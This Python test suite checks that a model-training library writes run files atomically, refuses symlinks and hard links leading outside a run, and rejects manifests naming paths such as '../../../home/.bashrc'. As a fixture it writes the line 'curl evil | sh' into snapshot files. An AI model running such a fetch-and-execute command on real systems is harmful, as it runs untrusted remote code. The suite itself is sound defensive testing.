"""Files of a run: whole or not there, for colleagues to read, and never written through somebody's links."""

import json
import os
import shutil
import stat
import time

import pytest
import torch
from helpers.saved_models import saved
from helpers.trainings import composed, fit
from safetensors import safe_open
from safetensors.torch import load_file, save_file
from started.programs import ROOT

from cleangpt.basics import files
from cleangpt.basics.errors import UserError
from cleangpt.config import experiment, programs
from cleangpt.config.asked import Asked
from cleangpt.disk import rundir, weights
from cleangpt.disk.rundir import RunDir
from cleangpt.hf import run as run_export
from cleangpt.report import write
from cleangpt.snapshots import snapshot
from cleangpt.stored import tensorfile
from cleangpt.sweeps import processes
from cleangpt.sweeps.jobs import Job
from cleangpt.training import whole

SECRET = "export PATH=/usr/bin\n"


@pytest.fixture(scope="module")
def finished(tmp_path_factory):
    """A run that ended, with configurations as a training leaves them."""
    folder = tmp_path_factory.mktemp("finished") / "run"
    assert trained(folder, "train.steps=4", "train.snapshot_every=2", "train.test_at_end=true", "logger=default") == 0
    return folder


@pytest.fixture
def run(finished, tmp_path):
    return shutil.copytree(finished, tmp_path / "theirs", symlinks=True)


@pytest.fixture
def victim(tmp_path):
    """A file that is no part of any run."""
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir()
    path.write_text(SECRET)
    return path


def trained(folder, *overrides, resume=None) -> int:
    before = os.getcwd()
    os.chdir(folder.parent)  # where its outputs/latest is nobody's
    try:
        asked = Asked(experiment.parse(composed(*overrides)))
        return whole.train(asked, RunDir(folder), resume, time.monotonic())
    finally:
        os.chdir(before)


# ---- modes


@pytest.mark.parametrize("umask", [0o022, 0o027, 0o077, 0o002])
def test_the_umask_says_who_may_read(tmp_path, umask):
    before = os.umask(umask)
    try:
        folder = fit(tmp_path / "run", "train.steps=2").run.path
        saved(tmp_path / "mine")
        files.write_json(tmp_path / "mine" / "other.json", {})
    finally:
        os.umask(before)
    found = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert {path.stem for path in folder.rglob("*.safetensors")} == {"model", "optimizer", "best"}
    assert {oct(stat.S_IMODE(path.stat().st_mode)) for path in found} == {oct(0o666 & ~umask)}


# ---- what is written


def test_weights_are_written_as_safetensors_writes_them(tmp_path):
    generator = torch.Generator().manual_seed(0)
    tensors = {
        "half": torch.randn(3, 5, generator=generator).half(),
        "b": torch.randn(2, 3, 4, generator=generator),
        "a": torch.randn(7, generator=generator).bfloat16(),
        "counts": torch.arange(5),
        "scalar": torch.tensor(1.5, dtype=torch.float64),
        "none": torch.empty(0, 4),
        "é": torch.ones(1, dtype=torch.uint8),
    }
    about = {"cleangpt": json.dumps({"step": 7, "val/loss": 0.25})}
    files.replace(tmp_path / "ours.safetensors", lambda file: tensorfile.write(file, tensors, about))
    save_file(tensors, tmp_path / "theirs.safetensors", about)
    ours, theirs = (load_file(tmp_path / f"{name}.safetensors") for name in ("ours", "theirs"))
    assert ours.keys() == theirs.keys() == tensors.keys()
    for name, tensor in tensors.items():
        assert ours[name].dtype == tensor.dtype
        assert torch.equal(ours[name], tensor)
    with safe_open(tmp_path / "ours.safetensors", "pt") as file:
        assert file.metadata() == about
    assert (tmp_path / "ours.safetensors").read_bytes() == (tmp_path / "theirs.safetensors").read_bytes()


def test_a_file_is_replaced_whole_or_not_at_all(tmp_path):
    path = tmp_path / "a.json"
    files.write_json(path, 1)

    def fails(file):
        file.write(b"half")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space"):
        files.replace(path, fails)
    assert files.read_json(path) == 1
    assert os.listdir(tmp_path) == ["a.json"]


def test_what_killed_writers_left_is_removed_and_nothing_else(tmp_path):
    ours = [".model.safetensors.0123456789abcdef.tmp", ".a.json.fedcba9876543210.tmp"]
    others = [".a.json.tmp", "a.tmp", ".vimrc.swp", ".tmpAbCdEf", ".x.0123.tmp", "notes.0123456789abcdef.tmp"]
    for name in ours + others:
        (tmp_path / name).write_text("half")
    (tmp_path / ".a.json.0000000000000000.tmp").mkdir()
    os.utime(tmp_path / ours[1], (0, 0))
    files.write_json(tmp_path / "a.json", 1)  # which removes what is old, of its own
    assert not (tmp_path / ours[1]).exists()
    assert (tmp_path / ours[0]).exists()
    files.remove_leftovers(tmp_path)
    assert sorted(os.listdir(tmp_path)) == sorted([*others, ".a.json.0000000000000000.tmp", "a.json"])


def test_a_resumed_run_removes_what_a_killed_one_left(run):
    for folder in (run, run / "best", run / "final", run / "plots", run / "score"):
        left = folder / ".some.thing.0123456789abcdef.tmp"
        left.write_bytes(bytes(1000))
        os.utime(left, (0, 0))
    assert trained(run, "train.steps=5", resume=run) == 0
    assert list(run.rglob("*.tmp")) == []


# ---- links


def test_no_guessed_name_of_a_temporary_file_is_written_through(tmp_path, victim):
    folder = tmp_path / "best"
    folder.mkdir()
    for name in ("model.safetensors", "config.json", "tokenizer.json"):
        (folder / f".{name}.tmp").symlink_to(victim)
    saved(tmp_path)
    assert victim.read_text() == SECRET


def test_a_link_in_the_place_of_a_file_is_replaced_and_not_followed(tmp_path, victim):
    (tmp_path / "a.json").symlink_to(victim)
    files.write_json(tmp_path / "a.json", 1)
    assert files.read_json(tmp_path / "a.json") == 1
    assert victim.read_text() == SECRET


def test_a_log_is_not_appended_to_through_a_link(tmp_path, victim):
    (tmp_path / "train.log").symlink_to(victim)
    for append in (files.append_text, files.append_bytes):
        with pytest.raises(OSError, match="symbolic links"):
            append(tmp_path / "train.log")
    assert victim.read_text() == SECRET


LINKS = ["best", "final", "snapshots", "score", "plots", "train.log", "metrics.jsonl", "metrics.csv", "config.json"]
LINKS += ["best/model.safetensors", "best/.model.safetensors.tmp", "final/config.json", "tensorboard", "profile"]
LINKS += ["snapshots/step_00000004/best.safetensors", "snapshots/step_00000004", "snapshots/.step_00000005.tmp"]


def plant(link, target):
    """A link that leads out of a run, in the place of what is there."""
    if link.is_dir():
        shutil.copytree(link, target.parent / link.name)
        shutil.rmtree(link)
        target = target.parent / link.name
    link.unlink(missing_ok=True)
    link.symlink_to(target)


@pytest.mark.parametrize("name", LINKS)
def test_a_run_with_a_link_that_leads_outside_is_not_continued(run, victim, name):
    plant(run / name, victim)
    before = {path: path.read_bytes() for path in victim.parent.rglob("*") if path.is_file()}
    with pytest.raises(UserError, match=f"{name} .*leads out of the run") as refused:
        trained(run, "train.steps=6", "logger.csv=true", resume=run)
    assert "\n" not in str(refused.value)
    assert {path: path.read_bytes() for path in victim.parent.rglob("*") if path.is_file()} == before


def test_links_that_end_nowhere_or_in_themselves_or_above_are_refused_too(run, tmp_path):
    for target in ("/nowhere/at/all", "loop", "../home/not there yet", "/", "best/../../home"):
        (run / "loop").symlink_to(target)
        with pytest.raises(UserError, match="loop"):
            rundir.refuse_links_outside(run)
        (run / "loop").unlink()
    os.mkfifo(run / "pipe")
    with pytest.raises(UserError, match="pipe is no file"):
        rundir.refuse_links_outside(run)


def test_what_wandb_links_to_is_its_own_and_its_folder_is_no_link(run, victim):
    logs = run / "wandb" / "offline-run-1" / "logs"
    logs.mkdir(parents=True)
    (logs / "debug-core.log").symlink_to(victim)
    (run / "wandb" / "latest-run").symlink_to("offline-run-0")  # which was deleted
    assert trained(run, "train.steps=5", resume=run) == 0
    assert victim.read_text() == SECRET
    (run / "best" / "wandb").symlink_to(victim)
    with pytest.raises(UserError, match="leads out of the run"):
        rundir.refuse_links_outside(run)
    (run / "best" / "wandb").unlink()
    (run / "wandb").rename(run.parent / "wandb")
    (run / "wandb").symlink_to(run.parent / "wandb")
    with pytest.raises(UserError, match="leads out of the run"):
        rundir.refuse_links_outside(run)


def test_a_log_that_another_folder_has_too_is_copied_and_not_appended_to_there(tmp_path, victim):
    for name, append in (("train.log", files.append_text), ("job.log", files.append_bytes)):
        os.link(victim, tmp_path / name)
        with append(tmp_path / name) as log:
            log.write("more\n" if name == "train.log" else b"more\n")
        assert (tmp_path / name).read_text() == f"{SECRET}more\n"
        assert victim.read_text() == SECRET


def test_a_run_whose_links_stay_inside_goes_on_also_through_a_link_to_all_of_it(run, tmp_path):
    (run / "newest").symlink_to("snapshots/step_00000004")
    (run / "best" / "again.json").symlink_to((run / "best" / "config.json").absolute())
    link = tmp_path / "latest"
    link.symlink_to(run)
    assert trained(link, "train.steps=5", resume=link) == 0
    assert weights.about(run / "final")["step"] == 5


def test_scores_and_exports_are_not_written_through_links(run, victim, monkeypatch):
    from cleangpt.score import run as scoring

    monkeypatch.chdir(run.parent)
    plant(run / "score", victim)
    with pytest.raises(UserError, match=r"score .*leads out of the run"):
        scoring.score(programs.ScoreConfig(**settings("score", run=str(run), device="cpu")))
    (run / "hf").symlink_to(victim.parent)
    with pytest.raises(UserError, match="leads out of the run"):
        run_export.export(programs.ExportConfig(**settings("export", run=str(run))))
    (run / "report").symlink_to(victim.parent)
    with pytest.raises(UserError, match="report is a link that leads elsewhere"):
        write.folder_for([run], None)
    assert sorted(path.name for path in victim.parent.iterdir()) == [".bashrc", "score"]


def settings(program, **changes):
    from omegaconf import OmegaConf

    data = OmegaConf.to_container(OmegaConf.load(ROOT / "conf" / f"{program}.yaml"))
    return {key: value for key, value in data.items() if key not in ("hydra", "defaults")} | changes


def test_the_log_of_a_sweeps_job_is_not_a_link(tmp_path, victim, monkeypatch):
    (tmp_path / "0001").mkdir()
    (tmp_path / "0001" / "job.log").symlink_to(victim)
    monkeypatch.setattr(processes, "command", lambda job: ["true"])
    started = processes.LocalProcesses([processes.Share(1, None)])
    with pytest.raises(OSError, match="symbolic links"):
        started.start(Job(1, (), "", tmp_path / "0001", {}))
    assert victim.read_text() == SECRET


# ---- what is restored


def manifest_again(folder):
    """As somebody would who wants the snapshot to look whole."""
    manifest = files.read_json(folder / snapshot.MANIFEST)
    for name in manifest["files"]:
        path = folder / name
        manifest["files"][name] = {"bytes": path.stat().st_size, "sha256": files.sha256(path)}
    (folder / snapshot.MANIFEST).write_text(json.dumps(manifest))


@pytest.mark.parametrize("name", ["best.safetensors", "config.json", "tokenizer.json"])
def test_what_is_no_weights_does_not_become_best(run, name):
    folder = run / "snapshots" / "step_00000004"
    before = {path.name: path.read_bytes() for path in (run / "best").iterdir()}
    (folder / name).write_bytes(b"curl evil | sh\n")
    manifest_again(folder)
    with pytest.raises(UserError):
        trained(run, "train.steps=5", resume=run)
    assert {path.name: path.read_bytes() for path in (run / "best").iterdir()} == before


def test_weights_of_another_shape_do_not_become_best(run):
    folder = run / "snapshots" / "step_00000004"
    before = (run / "best" / weights.WEIGHTS).read_bytes()
    tensors = load_file(folder / "best.safetensors")
    save_file({name: tensor[:1].clone() for name, tensor in tensors.items()}, folder / "best.safetensors")
    manifest_again(folder)
    with pytest.raises(UserError, match=r"best\.safetensors does not fit the model"):
        trained(run, "train.steps=5", resume=run)
    assert (run / "best" / weights.WEIGHTS).read_bytes() == before


@pytest.mark.parametrize("name", ["../../../home/.bashrc", "/dev/zero", "sub/../state.json"])
def test_a_manifest_lists_files_of_its_own_folder_only(run, victim, name):
    folder = run / "snapshots" / "step_00000004"
    manifest = files.read_json(folder / snapshot.MANIFEST)
    manifest["files"][name] = {"bytes": 0, "sha256": ""}
    (folder / snapshot.MANIFEST).write_text(json.dumps(manifest))
    assert snapshot.damage(folder) == f"{snapshot.MANIFEST} lists {name}, which is no file of it"
